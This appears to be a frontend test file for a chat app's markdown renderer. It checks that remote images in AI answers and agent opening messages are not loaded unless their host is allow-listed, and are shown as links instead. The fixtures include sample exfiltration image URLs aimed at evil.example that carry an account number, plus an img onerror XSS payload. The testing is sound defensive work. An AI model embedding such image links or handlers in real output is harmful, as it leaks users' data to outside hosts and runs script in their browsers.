import { siteConfigPath } from '@parley/contracts';
import { QueryClient, QueryClientProvider } from '@tanstack/react-query';
import { render, screen, waitFor } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import type { ReactElement } from 'react';
import { beforeAll, describe, expect, it } from 'vitest';
import { withRealServer } from '../../../../test/real-server';
import { setupTestI18n } from '../../../../test/render';
import { forgetSiteConfig, siteConfigQueryOptions } from '../../../site';
import { AnswerBody } from '../answer-body';
import { OpeningBlock } from '../opening-block';
import MarkdownRenderer from './markdown-renderer';

declare global {
  interface Window {
    pwned?: string;
  }
}

const server = withRealServer({ IMAGE_HOSTS_ALLOWED: 'images.example' });

beforeAll(() => setupTestI18n());

const leak = 'https://evil.example/p.png?q=my%20account%20number';

/** Rendered once the server has said which hosts are allowed, as the app does after start-up. */
async function renderWithSiteConfig(ui: ReactElement) {
  const queryClient = new QueryClient({ defaultOptions: { queries: { retry: false } } });
  await queryClient.fetchQuery(siteConfigQueryOptions());
  return render(<QueryClientProvider client={queryClient}>{ui}</QueryClientProvider>);
}

function remoteSources(container: HTMLElement): string[] {
  return [...container.querySelectorAll('img')].map((image) => image.src).filter((src) => !src.startsWith(window.location.origin));
}

/** The link drawn in place of the image: named by its host, opening the image in a new tab without a referrer. */
async function findLinkTo(url: string, host: string) {
  const link = await screen.findByRole('link', { name: new RegExp(`Image from ${host.replaceAll('.', '\\.')}`) });
  expect(link).toHaveAttribute('href', url);
  expect(link).toHaveAttribute('target', '_blank');
  expect(link.getAttribute('rel')?.split(' ')).toEqual(expect.arrayContaining(['noopener', 'noreferrer']));
  expect(link).toHaveAttribute('referrerpolicy', 'no-referrer');
  return link;
}

describe('an image from another site in an answer', () => {
  it.each([
    ['markdown', `Your chart: ![chart](${leak})`],
    ['raw HTML', `Your chart: <img src="${leak}" alt="chart">`],
    ['a reference', `Your chart: ![chart][r]\n\n[r]: ${leak}`],
  ])('written as %s, loads nothing and shows a link naming its host, while streaming and once done', async (_syntax, text) => {
    for (const streaming of [true, false]) {
      const { container, unmount } = await renderWithSiteConfig(<MarkdownRenderer text={text} streaming={streaming} />);
      expect(remoteSources(container)).toEqual([]);
      const link = await findLinkTo(leak, 'evil.example');
      expect(link).toHaveAccessibleName('chart Image from evil.example Open');
      unmount();
    }
  });

  it('can be reached with the keyboard', async () => {
    await renderWithSiteConfig(<MarkdownRenderer text={`See ![chart](${leak})`} />);
    await userEvent.setup().tab();
    expect(await findLinkTo(leak, 'evil.example')).toHaveFocus();
  });

  it('keeps no handler a raw <img> carried', async () => {
    window.pwned = undefined;
    const { container } = await renderWithSiteConfig(<MarkdownRenderer text={`<img src="https://evil.example/x.png" onerror="window.pwned = 'img'">`} />);
    expect(container.querySelector('img, [onerror]')).toBeNull();
    await new Promise((resolve) => setTimeout(resolve, 20));
    expect(window.pwned).toBeUndefined();
  });

  it('is a label only inside a link of the text: that link is what opens', async () => {
    const { container } = await renderWithSiteConfig(<MarkdownRenderer text={'[![build](https://evil.example/badge.svg)](https://docs.example/build)'} />);
    expect(remoteSources(container)).toEqual([]);
    const [link, ...others] = screen.getAllByRole('link');
    expect(others).toEqual([]);
    expect(link).toHaveAttribute('href', 'https://docs.example/build');
    expect(link).toHaveTextContent('Image from evil.example');
  });

  it('loads nothing through a <picture>’s sources either', async () => {
    const { container } = await renderWithSiteConfig(
      <MarkdownRenderer text={'<picture><source srcset="https://evil.example/wide.png 2x"><img alt="wide"></picture>'} />,
    );
    expect(container.querySelector('source, [srcset]')).toBeNull();
    expect(remoteSources(container)).toEqual([]);
  });

  it('from an allowed host shows inline over https, and as a link over plain http', async () => {
    const { container } = await renderWithSiteConfig(
      <MarkdownRenderer text={'![fees](https://images.example/fees.png)\n\n![old](http://images.example/old.png)'} />,
    );
    expect(remoteSources(container)).toEqual(['https://images.example/fees.png']);
    expect(screen.getByRole('img', { name: 'fees' })).toBeInTheDocument();
    await findLinkTo('http://images.example/old.png', 'images.example');
  });

  it('from an allowed host waits as a link until the server has said the host is allowed', async () => {
    forgetSiteConfig();
    const queryClient = new QueryClient({ defaultOptions: { queries: { retry: false } } });
    const release = server.hold(siteConfigPath);
    const { container } = render(
      <QueryClientProvider client={queryClient}>
        <MarkdownRenderer text={'![fees](https://images.example/fees.png)'} />
      </QueryClientProvider>,
    );
    expect(remoteSources(container)).toEqual([]);
    await findLinkTo('https://images.example/fees.png', 'images.example');
    release();
    await waitFor(() => expect(remoteSources(container)).toEqual(['https://images.example/fees.png']));
  });
});

describe('an image from another site elsewhere in model and agent text', () => {
  it('loads nothing from an agent’s opening message', async () => {
    const texts = { name: 'Fee helper', intro: '', openingMessage: `Hello! ![me](${leak})`, suggestedQuestions: [] };
    const { container } = await renderWithSiteConfig(<OpeningBlock app={{ avatarUrl: null, isOfficial: false }} texts={texts} />);
    await findLinkTo(leak, 'evil.example');
    expect(remoteSources(container)).toEqual([]);
  });

  it('loads nothing from an answer as a chat or a shared conversation shows it', async () => {
    const { container } = await renderWithSiteConfig(<AnswerBody text={`Done: ![x](${leak})`} phase="done" citations={[]} />);
    await findLinkTo(leak, 'evil.example');
    expect(remoteSources(container)).toEqual([]);
  });
});
